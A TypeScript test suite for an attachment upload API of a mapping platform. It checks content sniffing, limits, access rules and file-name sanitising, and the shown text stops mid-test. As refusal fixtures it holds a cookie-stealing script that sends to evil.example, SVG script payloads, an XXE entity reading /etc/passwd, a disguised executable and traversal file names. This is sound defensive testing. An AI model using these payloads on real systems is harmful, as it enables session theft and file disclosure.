/**
 * Attachments of declarations through the HTTP API, on PGlite and PostgreSQL, with the
 * intermediate tier on local disk and on a real S3 (Ceph RGW, when S3_ENDPOINT is set): round trips
 * of JPEG, PNG, PDF, GML and DXF with their SHA-256, the sniffing refusals (an executable renamed
 * .jpg, HTML named .png, SVG, XML that is not GML, a DOCTYPE, a name that disagrees with the
 * content), the limits (413, too many), who may upload, read and delete, hostile file names, the
 * download headers, deletion, damaged bytes, and a storage scrub that leaves attachments alone.
 */
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { Readable } from 'node:stream';
import path from 'node:path';
import { CreateBucketCommand, DeleteBucketCommand, DeleteObjectCommand, ListObjectsV2Command, S3Client } from '@aws-sdk/client-s3';
import { validate } from '@readme/openapi-parser';
import type { FastifyInstance, InjectOptions } from 'fastify';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../config/config.js';
import { buildAppContext, type AppContext } from '../context/app-context.js';
import { OPENAPI_URL } from '../http/openapi.js';
import { buildServer } from '../server/app.js';
import { createUser, sessionFor, userWithKey } from '../test-support/access.js';
import { ENGINES, type TestDatabase } from '../test-support/db.js';
import { runVerify } from '../tiers/fixity.js';
import { storageServices } from '../tiers/services.js';
import { contentDisposition, sanitizeFilename, sniffAttachment } from './attachment-sniff.js';
import { AttachmentService, attachmentKey } from './attachments.js';
import { declarationsCapability } from './capability.js';

const env = process.env;
const haveS3 = Boolean(env.S3_ENDPOINT && env.S3_ACCESS_KEY_ID && env.S3_SECRET_ACCESS_KEY);
const MAX_BYTES = 300 * 1024;
const MAX_PER_DECLARATION = 5;
const CAHORS_WGS84 = [1.4415, 44.4475] as const;
const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');

interface Part {
  name: string;
  filename?: string;
  type?: string;
  data: Buffer | string;
}

/** A multipart/form-data body as a browser sends it (file names as raw UTF-8). */
function multipart(parts: Part[]): { payload: Buffer; headers: Record<string, string> } {
  const boundary = `----pcrs${randomBytes(8).toString('hex')}`;
  const chunks: Buffer[] = [];
  for (const p of parts) {
    const filename = p.filename === undefined ? '' : `; filename="${p.filename.replace(/"/g, '%22')}"`;
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"${filename}\r\n${p.type ? `Content-Type: ${p.type}\r\n` : ''}\r\n`, 'utf8'));
    chunks.push(Buffer.isBuffer(p.data) ? p.data : Buffer.from(p.data, 'utf8'));
    chunks.push(Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

const file = (filename: string, data: Buffer | string, type = 'application/octet-stream') => multipart([{ name: 'file', filename, type, data }]);

const PDF = Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n', 'latin1');
const DXF = '999\nexport PCRS\n  0\nSECTION\n  2\nHEADER\n  9\n$ACADVER\n  1\nAC1015\n  0\nENDSEC\n  0\nSECTION\n  2\nENTITIES\n  0\nLINE\n  8\n0\n 10\n575200.0\n 20\n6373600.0\n 11\n575210.0\n 21\n6373600.0\n  0\nENDSEC\n  0\nEOF\n';
const GML = readFileSync(path.join(import.meta.dirname, '..', 'vector', 'fixtures', '20200716.RIL_L260_C340_P0.gml'));
const SVG = '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("/api/v1/auth/session")</script></svg>';
const HTML = '<!DOCTYPE html>\n<html><body><script>document.location="https://evil.example/?"+document.cookie</script></body></html>';
const EXE = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), Buffer.alloc(400)]);
const XXE = '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml/3.2">&x;</gml:FeatureCollection>';
const NOT_GML = '<?xml version="1.0"?>\n<kml xmlns="http://www.opengis.net/kml/2.2"><Document/></kml>';

const CASES = ENGINES.flatMap((e) => (['local', 'ceph'] as const).map((tier) => ({ ...e, tier })));

describe.each(CASES)('declaration attachments on $engine, intermediate tier $tier', ({ engine, open, tier }) => {
  const skip = tier === 'ceph' && !haveS3;
  let t: TestDatabase;
  let dataDir: string;
  let ctx: AppContext;
  let app: FastifyInstance;
  let s3: S3Client | undefined;
  const bucket = `pcrs-attach-${engine}-${process.pid}-${Date.now().toString(36)}`;
  let author: { userId: number; cookie: string; csrf: string };
  let authorKey: string;
  let moderatorKey: string;
  let otherKey: string;
  let readOnlyKey: string;
  let jpeg: Buffer;
  let png: Buffer;

  const asAuthor = (o: InjectOptions): InjectOptions => ({ ...o, cookies: { pcrs_session: author.cookie }, headers: { ...(o.headers ?? {}), 'x-csrf-token': author.csrf } });
  const withKey = (key: string, o: InjectOptions): InjectOptions => ({ ...o, headers: { ...(o.headers ?? {}), authorization: `Bearer ${key}` } });
  const upload = (key: string, id: number, body: { payload: Buffer; headers: Record<string, string> }) => app.inject(withKey(key, { method: 'POST', url: `/api/v1/declarations/${id}/attachments`, payload: body.payload, headers: body.headers }));
  const rows = async () => Number((await t.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM declaration_attachments`)).rows[0]?.n);
  const tierKeys = async (prefix = 'declarations/') => {
    const keys: string[] = [];
    for await (const e of ctx.tiers.intermediate.list(prefix)) keys.push(e.key);
    return keys;
  };
  const declare = async (as: (o: InjectOptions) => InjectOptions = (o) => withKey(authorKey, o)) => {
    const res = await app.inject(as({ method: 'POST', url: '/api/v1/declarations', payload: { type: 'error', title: 'Regard décalé', description: 'Photo jointe.', geometry: { type: 'Point', coordinates: CAHORS_WGS84 } } }));
    expect(res.statusCode, res.body).toBe(201);
    return res.json().id as number;
  };

  beforeAll(async () => {
    if (skip) return;
    t = await open();
    dataDir = (t.env.PCRS_DATA_DIR as string | undefined) ?? mkdtempSync(path.join(tmpdir(), 'pcrs-attach-'));
    mkdirSync(path.join(dataDir, 'storage'), { recursive: true });
    const overrides: Record<string, unknown> = { declarations: { attachments: { maxBytes: MAX_BYTES, maxPerDeclaration: MAX_PER_DECLARATION } } };
    if (tier === 'ceph') {
      s3 = new S3Client({
        endpoint: env.S3_ENDPOINT,
        region: env.S3_REGION || 'us-east-1',
        forcePathStyle: true,
        credentials: { accessKeyId: env.S3_ACCESS_KEY_ID as string, secretAccessKey: env.S3_SECRET_ACCESS_KEY as string },
        requestChecksumCalculation: 'WHEN_REQUIRED',
        responseChecksumValidation: 'WHEN_REQUIRED',
      });
      await s3.send(new CreateBucketCommand({ Bucket: bucket }));
      overrides.storage = { intermediate: { type: 's3', endpoint: env.S3_ENDPOINT, region: env.S3_REGION || 'us-east-1', bucket, prefix: 'intermediate', forcePathStyle: true, accessKeyId: env.S3_ACCESS_KEY_ID, secretAccessKey: env.S3_SECRET_ACCESS_KEY } };
    }
    const config = loadConfig({ PCRS_DATA_DIR: dataDir, PCRS_LOG_LEVEL: 'silent', PCRS_PUBLIC_URL: 'https://pcrs.example.fr' }, overrides);
    ctx = buildAppContext(config, t.db);
    await ctx.catalog.ensureStandardDatasets('46');
    const aliceId = await createUser(ctx, 'alice@cahors.fr', { memberships: [{ org: 'cahors', role: 'member' }] });
    const s = await sessionFor(ctx, aliceId);
    author = { userId: aliceId, cookie: s.cookie, csrf: s.csrfToken };
    authorKey = (await userWithKey(ctx, 'alice-key@cahors.fr', { memberships: [{ org: 'cahors', role: 'member' }], scopes: ['declarations:write'] })).key;
    moderatorKey = (await userWithKey(ctx, 'moderateur@fdel.fr', { platformRoles: ['moderator'], memberships: [{ org: 'fdel', role: 'member' }], scopes: ['declarations:write'] })).key;
    otherKey = (await userWithKey(ctx, 'agent@sdis46.fr', { memberships: [{ org: 'sdis46', role: 'member' }], scopes: ['declarations:write'] })).key;
    readOnlyKey = (await userWithKey(ctx, 'lecteur@sdis46.fr', { memberships: [{ org: 'sdis46', role: 'member' }], scopes: ['read'] })).key;
    jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#c04020' } }).jpeg({ quality: 80 }).toBuffer();
    png = await sharp({ create: { width: 32, height: 32, channels: 4, background: '#2080c0' } }).png().toBuffer();
    app = await buildServer(ctx, { logger: false, capabilities: [declarationsCapability] });
    await app.ready();
  });
  afterAll(async () => {
    await app?.close();
    ctx?.mail.close();
    await ctx?.access.close?.().catch(() => undefined);
    await t?.dispose();
    if (dataDir) rmSync(dataDir, { recursive: true, force: true });
    if (s3) {
      const page = await s3.send(new ListObjectsV2Command({ Bucket: bucket }));
      await Promise.all((page.Contents ?? []).map((o) => s3?.send(new DeleteObjectCommand({ Bucket: bucket, Key: o.Key as string }))));
      await s3.send(new DeleteBucketCommand({ Bucket: bucket }));
      s3.destroy();
    }
  });

  it.skipIf(skip)('round trip of JPEG, PNG, PDF, GML and DXF: 201 with the SHA-256, listed in the detail, downloaded byte for byte with safe headers', async () => {
    const id = await declare();
    const files: Array<[string, Buffer, string]> = [
      ['regard.jpg', jpeg, 'image/jpeg'],
      ['plan.PNG', png, 'image/png'],
      ['courrier.pdf', PDF, 'application/pdf'],
      ['extrait.gml', GML, 'application/gml+xml'],
    ];
    const created: Array<{ id: number; filename: string; contentType: string; size: number; sha256: string; createdAt: string }> = [];
    for (const [name, bytes, type] of files) {
      // The client's Content-Type is ignored: everything is sent as octet-stream or as a lie.
      const res = await upload(authorKey, id, file(name, bytes, name.endsWith('.pdf') ? 'image/png' : 'application/octet-stream'));
      expect(res.statusCode, res.body).toBe(201);
      const a = res.json();
      expect(a).toEqual({ id: expect.any(Number), filename: name, contentType: type, size: bytes.length, sha256: sha256(bytes), createdAt: expect.any(String) });
      expect(res.headers.location).toBe(`/api/v1/declarations/${id}/attachments/${a.id}`);
      created.push(a);
    }
    const dxf = await upload(authorKey, id, file('réseau.dxf', DXF));
    expect(dxf.statusCode, dxf.body).toBe(201);
    expect(dxf.json()).toMatchObject({ contentType: 'image/vnd.dxf', filename: 'réseau.dxf', sha256: sha256(Buffer.from(DXF)) });
    created.push(dxf.json());

    // An author signed in with a session (and its CSRF token) attaches too.
    const own = await declare(asAuthor);
    const bySession = await app.inject(asAuthor({ method: 'POST', url: `/api/v1/declarations/${own}/attachments`, ...file('regard.jpeg', jpeg) }));
    expect(bySession.statusCode, bySession.body).toBe(201);
    // Not to a declaration of another user (alice's key is another account).
    expect((await app.inject(asAuthor({ method: 'POST', url: `/api/v1/declarations/${id}/attachments`, ...file('regard.jpeg', jpeg) }))).statusCode).toBe(403);

    // Stored under declarations/<id>/attachments/<sha256>, whatever the names.
    expect((await tierKeys(`declarations/${id}/`)).sort()).toEqual(created.map((a) => attachmentKey(id, a.sha256)).sort());

    const detail = await app.inject(withKey(readOnlyKey, { url: `/api/v1/declarations/${id}` }));
    expect(detail.statusCode).toBe(200);
    expect(detail.json().attachments).toEqual(created);

    for (const [i, [name, bytes, type]] of files.entries()) {
      const res = await app.inject(withKey(readOnlyKey, { url: `/api/v1/declarations/${id}/attachments/${created[i]?.id}` }));
      expect(res.statusCode, res.body).toBe(200);
      expect(res.rawPayload.equals(bytes)).toBe(true);
      expect(sha256(res.rawPayload)).toBe(created[i]?.sha256);
      expect(res.headers['content-type']).toBe(type);
      expect(res.headers['content-length']).toBe(String(bytes.length));
      expect(res.headers['content-disposition']).toBe(`attachment; filename="${name}"; filename*=UTF-8''${name}`);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['content-security-policy']).toMatch(/^sandbox/);
      expect(res.headers.etag).toBe(`"${sha256(bytes)}"`);
    }
    // Reading needs a credential, like the declaration.
    expect((await app.inject({ url: `/api/v1/declarations/${id}/attachments/${created[0]?.id}` })).statusCode).toBe(401);
    const audit = (await ctx.audit.query({ action: 'declaration.attachment.', limit: 100 })).filter((e) => e.target === `declaration:${id}`);
    expect(audit).toHaveLength(5);
    expect(audit.every((e) => e.action === 'declaration.attachment.add')).toBe(true);
    expect(audit.find((e) => e.details.filename === 'regard.jpg')?.details).toMatchObject({ contentType: 'image/jpeg', sha256: sha256(jpeg), size: jpeg.length });
  });

  it.skipIf(skip)('refuses content that is not accepted or disagrees with its name: 415 with the reason, nothing stored', async () => {
    const id = await declare();
    const before = await rows();
    const cases: Array<[string, string, Buffer | string, RegExp]> = [
      ['an executable renamed .jpg', 'photo.jpg', EXE, /application\/x-msdownload/],
      ['HTML named .png', 'capture.png', HTML, /HTML/],
      ['an SVG (script)', 'plan.svg', SVG, /SVG/],
      ['an SVG named .gml', 'plan.gml', SVG, /SVG/],
      ['SVG without prologue named .png', 'logo.png', '<svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"/>', /SVG/],
      ['XML that is not GML', 'carte.gml', NOT_GML, /not in a GML or CNIG PCRS namespace/],
      ['a DOCTYPE with an external entity', 'xxe.gml', XXE, /DOCTYPE/],
      ['a JPEG named .png', 'photo.png', jpeg, /named \.png but its content is JPEG/],
      ['a PDF named .jpg', 'scan.jpg', PDF, /content is PDF/],
      ['a GML named .pdf', 'extrait.pdf', GML, /content is GML/],
      ['a JPEG without an extension', 'photo', jpeg, /no extension/],
      ['plain text named .dxf', 'notes.dxf', 'ceci n’est pas un DXF\n', /none of the accepted kinds/],
    ];
    for (const [what, name, data, reason] of cases) {
      const res = await upload(authorKey, id, file(name, Buffer.isBuffer(data) ? data : Buffer.from(data), 'image/jpeg'));
      expect(res.statusCode, `${what}: ${res.body}`).toBe(415);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(res.json().detail, what).toMatch(reason);
      expect(res.json().type).toBe('urn:pcrs:problem:unsupported-attachment');
    }
    expect(await rows()).toBe(before);
    expect(await tierKeys(`declarations/${id}/`)).toEqual([]);
    // Nothing left in the scratch directory either.
    const scratch = path.join(dataDir, 'tmp', 'attachments');
    expect(readdirSync(scratch)).toEqual([]);
  });

  it.skipIf(skip)('limits: 413 past maxBytes, 409 past the count or for the same bytes twice; bad multipart is a 4xx; nothing stored', async () => {
    const id = await declare();
    const big = Buffer.concat([jpeg, randomBytes(MAX_BYTES)]);
    const tooBig = await upload(authorKey, id, file('grande.jpg', big));
    expect(tooBig.statusCode, tooBig.body).toBe(413);
    expect(tooBig.json().detail).toMatch(/larger than 300 KiB/);
    expect(tooBig.headers.connection).toBe('close');
    expect((await t.db.query(`SELECT 1 FROM declaration_attachments WHERE declaration_id = $1`, [id])).rows).toEqual([]);
    expect(await tierKeys(`declarations/${id}/`)).toEqual([]);
    // Exactly the limit passes.
    const exact = Buffer.concat([jpeg, randomBytes(MAX_BYTES - jpeg.length)]);
    const ok = await upload(authorKey, id, file('limite.jpg', exact));
    expect(ok.statusCode, ok.body).toBe(201);
    expect(ok.json().size).toBe(MAX_BYTES);

    const again = await upload(authorKey, id, file('encore.jpg', exact));
    expect(again.statusCode).toBe(409);
    expect(again.json().detail).toMatch(new RegExp(`already has this file \\(attachment ${ok.json().id}\\)`));
    for (let i = 1; i < MAX_PER_DECLARATION; i++) {
      const r = await upload(authorKey, id, file(`photo-${i}.jpg`, Buffer.concat([jpeg, Buffer.from([i])])));
      expect(r.statusCode, r.body).toBe(201);
    }
    const count = await rows();
    const tooMany = await upload(authorKey, id, file('une-de-trop.jpg', Buffer.concat([jpeg, Buffer.from('x')])));
    expect(tooMany.statusCode).toBe(409);
    expect(tooMany.json()).toMatchObject({ type: 'urn:pcrs:problem:too-many-attachments' });
    expect(tooMany.json().detail).toMatch(new RegExp(`already has ${MAX_PER_DECLARATION} attachments`));

    const other = await declare();
    const bad: Array<[string, InjectOptions, number]> = [
      ['JSON instead of multipart', { payload: { file: 'x' } }, 415],
      ['two files', multipart([{ name: 'file', filename: 'a.jpg', data: jpeg }, { name: 'file', filename: 'b.png', data: png }]), 400],
      ['a file part not named file', multipart([{ name: 'photo', filename: 'a.jpg', data: jpeg }]), 400],
      ['no file at all', multipart([{ name: 'comment', data: 'rien' }]), 400],
      ['an empty file', file('vide.jpg', Buffer.alloc(0)), 400],
      ['a body cut short', { payload: file('coupe.jpg', jpeg).payload.subarray(0, 500), headers: file('x', '').headers }, 400],
    ];
    for (const [what, o, status] of bad) {
      const res = await app.inject(withKey(authorKey, { method: 'POST', url: `/api/v1/declarations/${other}/attachments`, ...o }));
      expect(res.statusCode, `${what}: ${res.body}`).toBe(status);
    }
    expect(await rows()).toBe(count);
    expect(await tierKeys(`declarations/${other}/`)).toEqual([]);
  });

  it.skipIf(skip || tier !== 'local')('over a real socket, a too big upload is answered 413 at the limit, without reading the rest, and the connection closed', async () => {
    const id = await declare();
    const address = await app.listen({ host: '127.0.0.1', port: 0 });
    const total = 100 * MAX_BYTES;
    const { headers, payload } = file('enorme.jpg', jpeg);
    const head = payload.subarray(0, payload.indexOf(jpeg) + jpeg.length);
    const result = await new Promise<{ status: number; written: number; connection: string | undefined; body: string }>((resolve, reject) => {
      let written = 0;
      let done = false;
      const req = request(`${address}/api/v1/declarations/${id}/attachments`, { method: 'POST', headers: { ...headers, authorization: `Bearer ${authorKey}` } }, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => {
          done = true;
          resolve({ status: res.statusCode ?? 0, written, connection: res.headers.connection, body: Buffer.concat(chunks).toString() });
          req.destroy();
        });
      });
      req.on('error', (e) => (done ? undefined : reject(e)));
      const chunk = randomBytes(64 * 1024);
      const pump = () => {
        req.write(head);
        written += head.length;
        const more = () => {
          while (!done && written < total) {
            written += chunk.length;
            if (!req.write(chunk)) return void req.once('drain', more);
          }
          if (!done) req.end();
        };
        more();
      };
      pump();
    });
    expect(result.status, result.body).toBe(413);
    expect(result.connection).toBe('close');
    expect(result.written).toBeLessThan(total / 2);
    expect((await t.db.query(`SELECT 1 FROM declaration_attachments WHERE declaration_id = $1`, [id])).rows).toEqual([]);
    expect(await tierKeys(`declarations/${id}/`)).toEqual([]);
  });

  it.skipIf(skip)('who: the author or a moderator uploads; someone else 403, a read-only key 403, anonymous 401, unknown declaration 404; the author’s closed declaration 409', async () => {
    const id = await declare();
    const before = await rows();
    const someoneElse = await upload(otherKey, id, file('photo.jpg', jpeg));
    expect(someoneElse.statusCode).toBe(403);
    expect(someoneElse.json().detail).toMatch(/Only the author/);
    expect((await upload(readOnlyKey, id, file('photo.jpg', jpeg))).statusCode).toBe(403);
    expect((await app.inject({ method: 'POST', url: `/api/v1/declarations/${id}/attachments`, ...file('photo.jpg', jpeg) })).statusCode).toBe(401);
    // A session without its CSRF token cannot upload.
    expect((await app.inject({ method: 'POST', url: `/api/v1/declarations/${id}/attachments`, cookies: { pcrs_session: author.cookie }, ...file('photo.jpg', jpeg) })).statusCode).toBe(403);
    const unknown = await upload(authorKey, 987654, file('photo.jpg', jpeg));
    expect(unknown.statusCode).toBe(404);
    expect(unknown.json().detail).toMatch(/no declaration 987654/);
    expect(await rows()).toBe(before);

    const byModerator = await upload(moderatorKey, id, file('constat.jpg', jpeg));
    expect(byModerator.statusCode, byModerator.body).toBe(201);
    const close = await app.inject(withKey(moderatorKey, { method: 'POST', url: `/api/v1/declarations/${id}/status`, payload: { status: 'rejected', reason: 'Hors périmètre.' } }));
    expect(close.statusCode).toBe(200);
    const late = await upload(authorKey, id, file('apres.png', png));
    expect(late.statusCode).toBe(409);
    expect(late.json().detail).toMatch(/rejected/);
    expect((await upload(moderatorKey, id, file('apres.png', png))).statusCode).toBe(201);
  });

  it.skipIf(skip)('hostile file names: paths, traversal, controls and bidi overrides are cut; the key never comes from the name', async () => {
    const id = await declare();
    const names: Array<[string, string]> = [
      ['../../../../etc/passwd.jpg', 'passwd.jpg'],
      ['..\\..\\windows\\system32\\photo.jpg', 'photo.jpg'],
      ['C:\\Users\\alice\\Pictures\\Façade n°3 "nord".jpg', 'Façade n°3 %22nord%22.jpg'],
      ['rapport\u202Egpj.exe.jpg', 'rapportgpj.exe.jpg'],
      ['.htaccess.jpg', 'htaccess.jpg'],
    ];
    const stored: Array<{ id: number; filename: string; sha256: string }> = [];
    for (const [i, [raw, expected]] of names.entries()) {
      const res = await upload(authorKey, id, file(raw, Buffer.concat([jpeg, Buffer.from([i])])));
      expect(res.statusCode, `${raw}: ${res.body}`).toBe(201);
      expect(res.json().filename, raw).toBe(expected);
      stored.push(res.json());
    }
    expect((await tierKeys(`declarations/${id}/`)).sort()).toEqual(stored.map((a) => attachmentKey(id, a.sha256)).sort());
    if (tier === 'local') {
      // Nothing was written outside the tier's directory, nor anywhere near the names given.
      expect(existsSync(path.join(dataDir, 'etc'))).toBe(false);
      expect(existsSync(path.join(dataDir, 'storage', 'etc'))).toBe(false);
      expect(readdirSync(path.join(dataDir, 'storage', 'intermediate'))).toEqual(['declarations']);
    }
    // A non-ASCII name: ASCII fallback and the exact name in filename* (RFC 6266 / 8187).
    const res = await app.inject(withKey(authorKey, { url: `/api/v1/declarations/${id}/attachments/${stored[2]?.id}` }));
    expect(res.headers['content-disposition']).toBe(`attachment; filename="Fa_ade n_3 _22nord_22.jpg"; filename*=UTF-8''Fa%C3%A7ade%20n%C2%B03%20%2522nord%2522.jpg`);
  });

  it.skipIf(skip)('delete: the author while submitted, a moderator always; the attachment is then 404, gone from the detail and from the tier', async () => {
    const id = await declare();
    const a = (await upload(authorKey, id, file('a.jpg', jpeg))).json();
    const b = (await upload(authorKey, id, file('b.png', png))).json();
    expect((await app.inject(withKey(otherKey, { method: 'DELETE', url: `/api/v1/declarations/${id}/attachments/${a.id}` }))).statusCode).toBe(403);
    expect((await app.inject(withKey(readOnlyKey, { method: 'DELETE', url: `/api/v1/declarations/${id}/attachments/${a.id}` }))).statusCode).toBe(403);
    const del = await app.inject(withKey(authorKey, { method: 'DELETE', url: `/api/v1/declarations/${id}/attachments/${a.id}` }));
    expect(del.statusCode, del.body).toBe(204);
    expect((await app.inject(withKey(authorKey, { url: `/api/v1/declarations/${id}/attachments/${a.id}` }))).statusCode).toBe(404);
    expect((await app.inject(withKey(authorKey, { method: 'DELETE', url: `/api/v1/declarations/${id}/attachments/${a.id}` }))).statusCode).toBe(404);
    expect((await app.inject(withKey(authorKey, { url: `/api/v1/declarations/${id}` }))).json().attachments.map((x: { id: number }) => x.id)).toEqual([b.id]);
    expect(await tierKeys(`declarations/${id}/`)).toEqual([attachmentKey(id, b.sha256)]);
    const row = await t.db.query<{ deleted_by: string }>(`SELECT deleted_by FROM declaration_attachments WHERE id = $1 AND deleted_at IS NOT NULL`, [a.id]);
    expect(row.rows[0]?.deleted_by).toMatch(/^(user|key):/);
    // The same bytes may come again once deleted.
    const back = await upload(authorKey, id, file('a-bis.jpg', jpeg));
    expect(back.statusCode, back.body).toBe(201);
    expect((await app.inject(withKey(authorKey, { url: `/api/v1/declarations/${id}/attachments/${back.json().id}` }))).rawPayload.equals(jpeg)).toBe(true);

    // Once acknowledged, the author may no longer delete; a moderator may.
    await app.inject(withKey(moderatorKey, { method: 'POST', url: `/api/v1/declarations/${id}/status`, payload: { status: 'acknowledged' } }));
    const late = await app.inject(withKey(authorKey, { method: 'DELETE', url: `/api/v1/declarations/${id}/attachments/${b.id}` }));
    expect(late.statusCode).toBe(403);
    expect(late.json().detail).toMatch(/only while it is submitted/);
    expect((await app.inject(withKey(moderatorKey, { method: 'DELETE', url: `/api/v1/declarations/${id}/attachments/${b.id}` }))).statusCode).toBe(204);
    // Unknown declaration / attachment, or an attachment of another declaration: 404.
    const other = await declare();
    expect((await app.inject(withKey(authorKey, { url: `/api/v1/declarations/987654/attachments/${back.json().id}` }))).statusCode).toBe(404);
    expect((await app.inject(withKey(authorKey, { url: `/api/v1/declarations/${other}/attachments/${back.json().id}` }))).statusCode).toBe(404);
    expect((await app.inject(withKey(authorKey, { url: `/api/v1/declarations/${id}/attachments/987654` }))).statusCode).toBe(404);
    const audit = (await ctx.audit.query({ action: 'declaration.attachment.delete', limit: 100 })).filter((e) => e.target === `declaration:${id}`);
    expect(audit).toHaveLength(2);
  });

  it.skipIf(skip)('damaged or missing bytes in the tier are never served as the attachment: 503 without a server path', async () => {
    const id = await declare();
    const a = (await upload(authorKey, id, file('a.jpg', jpeg))).json();
    const key = attachmentKey(id, a.sha256);
    await ctx.tiers.intermediate.put(key, jpeg.subarray(0, 100));
    const damaged = await app.inject(withKey(authorKey, { url: `/api/v1/declarations/${id}/attachments/${a.id}` }));
    expect(damaged.statusCode).toBe(503);
    expect(damaged.json().type).toBe('urn:pcrs:problem:attachment-unavailable');
    expect(damaged.body).not.toContain(dataDir);
    expect(damaged.body).not.toContain(key);
    await ctx.tiers.intermediate.delete(key);
    expect((await app.inject(withKey(authorKey, { url: `/api/v1/declarations/${id}/attachments/${a.id}` }))).statusCode).toBe(503);
  });

  it.skipIf(skip)('a storage scrub with repair verifies nothing away: live attachments are known, leftovers of deleted ones are reported', async () => {
    const id = await declare();
    const a = (await upload(authorKey, id, file('scrub.jpg', Buffer.concat([jpeg, Buffer.from('scrub')])))).json();
    const b = (await upload(authorKey, id, file('scrub.png', png))).json();
    await app.inject(withKey(authorKey, { method: 'DELETE', url: `/api/v1/declarations/${id}/attachments/${b.id}` }));
    // A leftover of a deleted attachment (as if the delete of the bytes had failed).
    await ctx.tiers.intermediate.put(attachmentKey(id, b.sha256), png);
    const report = await runVerify(storageServices(ctx), { tiers: ['intermediate'], repair: true });
    const unlisted = report.findings.filter((f) => f.outcome === 'quarantined' || f.outcome === 'unlisted').map((f) => f.location);
    expect(unlisted).toEqual([attachmentKey(id, b.sha256)]);
    expect(unlisted).not.toContain(attachmentKey(id, a.sha256));
    const res = await app.inject(withKey(authorKey, { url: `/api/v1/declarations/${id}/attachments/${a.id}` }));
    expect(res.statusCode).toBe(200);
  });

  it.skipIf(skip || tier !== 'local')('scratch files left by a crashed upload are swept after a day, running ones kept', async () => {
    const scratch = path.join(dataDir, 'tmp', 'attachments');
    mkdirSync(scratch, { recursive: true });
    const stale = path.join(scratch, 'upload-stale');
    const running = path.join(scratch, 'upload-running');
    writeFileSync(stale, 'x');
    writeFileSync(running, 'y');
    const twoDaysAgo = new Date(Date.now() - 2 * 86_400_000);
    utimesSync(stale, twoDaysAgo, twoDaysAgo);
    // A new service (as after a restart) sweeps on its first upload.
    const service = new AttachmentService(ctx);
    const id = await declare();
    const parts = async function* () {
      yield { type: 'file' as const, fieldname: 'file', filename: 'balai.png', file: Readable.from([png]) };
    };
    await service.upload(await ctx.access.identify({ apiKey: authorKey, ip: '127.0.0.1' }), id, parts());
    await expect.poll(() => existsSync(stale)).toBe(false);
    expect(existsSync(running)).toBe(true);
    rmSync(running);
  });

  it.skipIf(skip || engine !== 'pglite' || tier !== 'local')('describes its routes in a valid OpenAPI document; limits default to 20 MiB and 10', async () => {
    const doc = (await app.inject(OPENAPI_URL)).json();
    expect((await validate(doc)).valid).toBe(true);
    expect(Object.keys(doc.paths['/api/v1/declarations/{id}/attachments'])).toEqual(['post']);
    expect(Object.keys(doc.paths['/api/v1/declarations/{id}/attachments/{attachmentId}']).sort()).toEqual(['delete', 'get']);
    const defaults = loadConfig({ PCRS_DATA_DIR: dataDir });
    expect(defaults.declarations.attachments).toEqual({ maxBytes: 20 * 1024 * 1024, maxPerDeclaration: 10 });
    expect(loadConfig({ PCRS_DATA_DIR: dataDir, PCRS_ATTACHMENT_MAX_BYTES: '1048576', PCRS_ATTACHMENTS_PER_DECLARATION: '3' }).declarations.attachments).toEqual({ maxBytes: 1048576, maxPerDeclaration: 3 });
    expect(() => loadConfig({ PCRS_DATA_DIR: dataDir, PCRS_ATTACHMENT_MAX_BYTES: '-1' })).toThrow(/declarations\.attachments\.maxBytes/);
  });
});

describe('attachment kinds', () => {
  const ftyp = (brand: string, compat: string[]) => {
    const box = Buffer.alloc(16 + 4 * compat.length);
    box.writeUInt32BE(box.length, 0);
    box.write('ftyp', 4);
    box.write(brand, 8);
    compat.forEach((c, i) => box.write(c, 16 + 4 * i));
    return Buffer.concat([box, Buffer.alloc(256)]);
  };
  it('knows WebP and HEIC/HEIF photos by their bytes, and refuses HEIF sequences and AVIF', async () => {
    const webp = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#808080' } }).webp().toBuffer();
    expect((await sniffAttachment(webp, 'photo.webp')).contentType).toBe('image/webp');
    expect((await sniffAttachment(ftyp('heic', ['mif1', 'heic']), 'IMG_0001.HEIC')).contentType).toBe('image/heic');
    expect((await sniffAttachment(ftyp('mif1', ['mif1', 'heic']), 'IMG_0002.heif')).contentType).toBe('image/heif');
    await expect(sniffAttachment(ftyp('msf1', ['msf1']), 'rafale.heic')).rejects.toThrow(/image\/heif-sequence/);
    await expect(sniffAttachment(ftyp('avif', ['mif1', 'avif']), 'photo.avif')).rejects.toThrow(/image\/avif/);
    await expect(sniffAttachment(webp, 'photo.jpg')).rejects.toThrow(/named \.jpg but its content is WebP/);
  });
});

describe('attachment file names', () => {
  it('sanitises for display and encodes Content-Disposition (RFC 6266)', () => {
    expect(sanitizeFilename('')).toBe('piece-jointe');
    expect(sanitizeFilename('../..')).toBe('piece-jointe');
    expect(sanitizeFilename('a\u0000b\r\nc.pdf')).toBe('abc.pdf');
    expect(sanitizeFilename('\u200Bphoto\u2066.jpg')).toBe('photo.jpg');
    expect(sanitizeFilename('e\u0301te\u0301.jpg')).toBe('été.jpg');
